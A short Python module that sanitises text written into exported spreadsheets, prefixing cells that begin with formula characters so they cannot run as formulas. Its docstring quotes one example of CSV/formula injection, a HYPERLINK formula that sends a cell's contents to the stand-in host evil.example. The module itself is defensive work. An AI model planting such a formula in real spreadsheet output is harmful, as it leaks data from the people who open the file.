"""The one way a person's text goes into a spreadsheet the platform writes.

A cell whose text starts with = + - @, a tab or a carriage return is taken for a formula by Excel
and WPS (CSV/formula injection: `=HYPERLINK("http://evil.example/?x="&B2,"点击查看")` in a case's
description would be live in the clerk's ledger). As OWASP describes, such text is written with a
leading apostrophe, and always as a text cell. Every export (the ledger, the 12345 results and
error lists, any added later) writes cells through `text()`/`row()`.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text(value):
    """`value` as a cell may hold it: a string that could start a formula is neutralised; numbers,
    dates and None pass as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values) -> list:
    """A row of cells, each through `text()`."""
    return [text(value) for value in values]
